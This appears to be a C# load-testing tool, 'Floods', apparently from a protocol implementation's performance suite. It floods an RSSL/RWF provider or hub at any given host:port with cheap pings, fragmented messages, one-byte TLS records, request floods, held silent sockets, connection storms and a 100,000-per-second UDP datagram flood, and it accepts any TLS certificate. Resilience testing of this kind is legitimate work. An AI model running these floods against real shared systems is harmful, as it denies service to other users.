using System.Diagnostics;
using System.Globalization;
using System.Net.Security;
using System.Net.Sockets;
using PerfCommon.Codec;
using PerfCommon.Domains;
using PerfCommon.Transport;

namespace Floods;

/// <summary>
/// A client that attacks a provider or a hub shared with others, or a provider that attacks a consumer's machine: it endlessly sends
/// messages that cost it little.
/// </summary>
/// <remarks>
/// Floods kind host:port seconds; it prints the amount sent. The provider may close the connection: it reconnects. Floods provider kind:
/// see <see cref="HostileProvider"/>.
/// </remarks>
internal static class Program
{
    private const int SilentSockets = 2_000;

    private static readonly Dictionary<string, Func<Attack, CancellationToken, Task>> Kinds = new()
    {
        ["pings"] = (attack, stop) => attack.RepeatAsync("000302", stop),
        ["packs"] = (attack, stop) => attack.RepeatAsync("000312", stop),
        ["empty-packed"] = (attack, stop) => attack.RepeatAsync("0005120000", stop),
        ["fragments"] = (attack, stop) => attack.RepeatAsync("000a0308000000050001", stop),
        ["restarts"] = (attack, stop) => attack.RestartMessagesAsync(stop),
        ["websocket-pings"] = (attack, stop) => attack.RepeatOverWebSocketAsync("898000000000", stop),
        ["tls-records"] = (attack, stop) => attack.RepeatSmallRecordsAsync(stop),
        ["dictionaries"] = (attack, stop) => attack.RepeatRequestsAsync(Requests.Dictionary, reads: false, stop),
        ["dictionaries-read"] = (attack, stop) => attack.RepeatRequestsAsync(Requests.Dictionary, reads: true, stop),
        ["logins"] = (attack, stop) => attack.RepeatRequestsAsync(Requests.Login, reads: true, stop),
        ["items"] = (attack, stop) => attack.RepeatRequestsAsync(Requests.Item, reads: false, stop),
        ["items-read"] = (attack, stop) => attack.RepeatRequestsAsync(Requests.Item, reads: true, stop),
        ["items-spread"] = (attack, stop) => attack.RepeatRequestsAsync(Requests.SpreadItem, reads: true, stop),
        ["names"] = (attack, stop) => attack.RepeatRequestsAsync(Requests.LongItem, reads: true, stop),
        ["silent"] = (attack, stop) => attack.HoldSilentSocketsAsync(SilentSockets, stop),
        ["storm"] = (attack, stop) => attack.ConnectAndLeaveAsync(stop),
        ["noise"] = (attack, stop) => attack.SendNoiseAsync(stop),
        ["datagrams"] = (attack, stop) => attack.SendDatagramsAsync(stop),
    };

    private static async Task<int> Main(string[] args)
    {
        if (args is ["provider", var hostile, ..])
            return await HostileProvider.RunAsync(hostile, args[2..]);
        if (args is ["hub", ..])
            return await HostileHub.RunAsync(args[1..]);
        if (args is ["face", var way, var face, var length] && FaceAttacks.Kinds.Contains(way))
            return await FaceAttacks.RunAsync(way, face, double.Parse(length, CultureInfo.InvariantCulture));
        if (args is ["counts", var log, var from, var to])
            return LatencyAttacks.WriteCounts(log, double.Parse(from, CultureInfo.InvariantCulture), double.Parse(to, CultureInfo.InvariantCulture));
        if (args is ["latency", var disturbance, var domain, var time] && LatencyAttacks.Kinds.Contains(disturbance))
        {
            return LatencyAttacks.Run(disturbance, int.Parse(domain, CultureInfo.InvariantCulture),
                double.Parse(time, CultureInfo.InvariantCulture));
        }

        if (args is not [var kind, var address, var seconds] || !Kinds.TryGetValue(kind, out Func<Attack, CancellationToken, Task>? run)
            || address.Split(':') is not [var host, var port])
        {
            Console.Error.WriteLine($"usage: Floods kind host:port seconds     (kinds: {string.Join(", ", Kinds.Keys)})");
            Console.Error.WriteLine($"       Floods hub kind host consumersPort providersPort seconds (kinds: {string.Join(", ", HostileHub.Kinds)})");
            Console.Error.WriteLine($"       Floods provider kind [cert key]   (kinds: {string.Join(", ", HostileProvider.Kinds)})");
            Console.Error.WriteLine($"       Floods face kind address:port seconds (kinds: {string.Join(", ", FaceAttacks.Kinds)})");
            Console.Error.WriteLine($"       Floods latency kind domain seconds (kinds: {string.Join(", ", LatencyAttacks.Kinds)})");
            return 2;
        }

        using CancellationTokenSource stop = new(TimeSpan.FromSeconds(double.Parse(seconds, CultureInfo.InvariantCulture)));
        Attack attack = new(host, int.Parse(port, CultureInfo.InvariantCulture));
        while (!stop.IsCancellationRequested)
        {
            try
            {
                await run(attack, stop.Token);
            }
            catch (Exception problem) when (problem is IOException or SocketException or OperationCanceledException)
            {
                attack.Ended++; // closed, or ended
            }
        }

        Console.WriteLine(string.Create(CultureInfo.InvariantCulture,
            $"{kind,-18} {attack.Bytes / 1e6,8:F1} MB sent, {attack.Connections} connections"));
        return 0;
    }

    /// <summary>Encodes the requests that are repeated.</summary>
    private static class Requests
    {
        private const int MaxNameBytes = 255;

        public static byte[] Login(int number) =>
            Encode(new LoginConsumer(new LoginIdentity
            {
                UserName = "flood",
                ApplicationName = "Floods",
                Position = "127.0.0.1/net"
            }).EncodeRequest);

        public static byte[] Dictionary(int number) => Encode(room => DomainMsg.Encode(room, new RwfMsg
        {
            MsgClass = MsgClass.Request,
            DomainType = DomainType.Dictionary,
            StreamId = 10 + (number % 10_000),
            Key = new MsgKey
            {
                Flags = MsgKeyFlags.HasServiceId | MsgKeyFlags.HasName | MsgKeyFlags.HasFilter,
                ServiceId = 1,
                Name = DictionaryNames.Fields,
                Filter = DictionaryVerbosity.Normal,
            },
        }));

        public static byte[] Item(int number) => Item(number, string.Create(CultureInfo.InvariantCulture, $"FLOOD{number}"));

        // stream ids that are not consecutive
        public static byte[] SpreadItem(int number) => Item(number * 1_000, string.Create(CultureInfo.InvariantCulture, $"FLOOD{number}"));

        public static byte[] LongItem(int number) =>
            Item(number, string.Create(CultureInfo.InvariantCulture, $"{number}").PadLeft(MaxNameBytes, '0'));

        private static byte[] Item(int number, string text)
        {
            byte[] name = System.Text.Encoding.ASCII.GetBytes(text);
            return Encode(room => DomainMsg.Encode(room, new RwfMsg
            {
                MsgClass = MsgClass.Request,
                DomainType = DomainType.MarketPrice,
                StreamId = 10 + number,
                Flags = RequestFlags.Streaming,
                Key = new MsgKey { Flags = MsgKeyFlags.HasServiceId | MsgKeyFlags.HasName, ServiceId = 1, Name = name },
            }));
        }

        private delegate int Encoder(Span<byte> room);

        private static byte[] Encode(Encoder encode)
        {
            byte[] room = new byte[1_024];
            return room[..encode(room)];
        }
    }

    private sealed class Attack(string host, int port)
    {
        private const int DatagramBytes = 64;
        private const int DatagramsPerSecond = 100_000;

        public long Bytes { get; private set; }

        public int Connections { get; private set; }

        public int Ended { get; set; }

        /// <summary>Repeats the same frame after a handshake.</summary>
        public async Task RepeatAsync(string hex, CancellationToken stop)
        {
            await using NetworkStream stream = await ConnectAsync(stop);
            await ShakeHandsAsync(stream, stop);
            await SendForeverAsync(stream, Convert.FromHexString(hex), stop);
        }

        /// <summary>Sends messages of 16 MB, each begun again before it is complete.</summary>
        public async Task RestartMessagesAsync(CancellationToken stop)
        {
            await using NetworkStream stream = await ConnectAsync(stop);
            await ShakeHandsAsync(stream, stop);
            byte[] first = new byte[6_000];
            Convert.FromHexString("17700308010000000001").CopyTo(first, 0); // 6,000 bytes, message 1 of 16 MB
            byte[] next = new byte[6_000];
            Convert.FromHexString("177003040001").CopyTo(next, 0);
            while (true)
            {
                for (byte id = 1; id <= 60; id++)
                {
                    (first[9], next[5]) = (id, id);
                    await SendAsync(stream, first, stop);
                    for (int i = 0; i < 160; i++)
                        await SendAsync(stream, next, stop); // about a megabyte
                }
            }
        }

        /// <summary>Repeats the same WebSocket frame after the upgrade.</summary>
        public async Task RepeatOverWebSocketAsync(string hex, CancellationToken stop)
        {
            await using NetworkStream stream = await ConnectAsync(stop);
            await SendAsync(
                stream,
                "GET /WebSocket HTTP/1.1\r\nHost: h\r\nUpgrade: websocket\r\nConnection: upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Protocol: rssl.rwf\r\n\r\n"u8.ToArray(),
                stop);
            await SendForeverAsync(stream, Convert.FromHexString(hex), stop);
        }

        /// <summary>Sends TLS records of one byte each; .NET sends no empty ones.</summary>
        public async Task RepeatSmallRecordsAsync(CancellationToken stop)
        {
            await using NetworkStream stream = await ConnectAsync(stop);
#pragma warning disable CA5359 // a flooding client accepts any certificate
            await using SslStream ssl = new(stream, leaveInnerStreamOpen: true, (_, _, _, _) => true);
#pragma warning restore CA5359
            await ssl.AuthenticateAsClientAsync(host);
            await ShakeHandsAsync(ssl, stop);
            while (true)
            {
                for (int i = 0; i < Frames.Ping.Length; i++)
                    await ssl.WriteAsync(Frames.Ping.AsMemory(i, 1), stop);
                Bytes += Frames.Ping.Length * Frames.SmallRecordBytes;
            }
        }

        /// <summary>Repeats requests whose answers are discarded or not even read.</summary>
        public async Task RepeatRequestsAsync(Func<int, byte[]> create, bool reads, CancellationToken stop)
        {
            await using NetworkStream stream = await ConnectAsync(stop);
            await ShakeHandsAsync(stream, stop);
            await SendAsync(stream, Frames.Of(Requests.Login(0)), stop);
            Task reading = reads ? stream.CopyToAsync(Stream.Null, stop) : Task.CompletedTask;
            for (int number = 0; !reads || !reading.IsCompleted; number++)
                await SendAsync(stream, Frames.Of(create(number)), stop);
            await reading;
        }

        /// <summary>Holds sockets that send nothing, until they are closed.</summary>
        public async Task HoldSilentSocketsAsync(int count, CancellationToken stop)
        {
            List<NetworkStream> streams = [];
            try
            {
                while (streams.Count < count)
                    streams.Add(await ConnectAsync(stop));
                await Task.Delay(1_000, stop);
            }
            finally
            {
                streams.ForEach(stream => stream.Dispose());
            }
        }

        /// <summary>Completes handshakes and disconnects.</summary>
        public async Task ConnectAndLeaveAsync(CancellationToken stop)
        {
            await using NetworkStream stream = await ConnectAsync(stop);
            await ShakeHandsAsync(stream, stop);
        }

        /// <summary>Sends random bytes after a handshake.</summary>
        public async Task SendNoiseAsync(CancellationToken stop)
        {
            await using NetworkStream stream = await ConnectAsync(stop);
            await ShakeHandsAsync(stream, stop);
            byte[] noise = new byte[10_000];
            new Random(Connections).NextBytes(noise);
            await SendAsync(stream, noise, stop);
        }

        /// <summary>Sends datagrams of no session, 100,000 a second: noise, and some that resemble those of a round-trip test.</summary>
        public async Task SendDatagramsAsync(CancellationToken stop)
        {
            using Socket socket = new(SocketType.Dgram, ProtocolType.Udp);
            await socket.ConnectAsync(host, port, stop);
            Connections++;
            byte[] datagram = new byte[DatagramBytes];
            Random random = new(Connections);
            long start = Stopwatch.GetTimestamp();
            for (long sent = 0; !stop.IsCancellationRequested;)
            {
                for (long due = (long)(Stopwatch.GetElapsedTime(start).TotalSeconds * DatagramsPerSecond); sent < due; sent++)
                {
                    random.NextBytes(datagram);
                    if (sent % 2 == 0)
                        Frames.RoundTripMagic.CopyTo(datagram, 0);
                    socket.Send(datagram, SocketFlags.None, out _); // there may be no listener, or its buffer may be full
                    Bytes += datagram.Length;
                }

                await Task.Delay(1, CancellationToken.None);
            }
        }

        private async Task<NetworkStream> ConnectAsync(CancellationToken stop)
        {
            Socket socket = new(SocketType.Stream, ProtocolType.Tcp) { NoDelay = true };
            await socket.ConnectAsync(host, port, stop);
            Connections++;
            return new NetworkStream(socket, ownsSocket: true);
        }

        // The connection object is not used after its handshake: later bytes are written to the stream.
        private async Task ShakeHandsAsync(Stream stream, CancellationToken stop) => await RsslConnection.OpenClientAsync(
            new StreamDuplex(stream), new ConnectOptions { Host = host, Port = port }, stop);

        private async Task SendForeverAsync(Stream stream, byte[] frame, CancellationToken stop)
        {
            byte[] chunk = Frames.Repeat(frame);
            while (true)
                await SendAsync(stream, chunk, stop);
        }

        private async Task SendAsync(Stream stream, byte[] bytes, CancellationToken stop)
        {
            await stream.WriteAsync(bytes, stop);
            Bytes += bytes.Length;
        }
    }
}
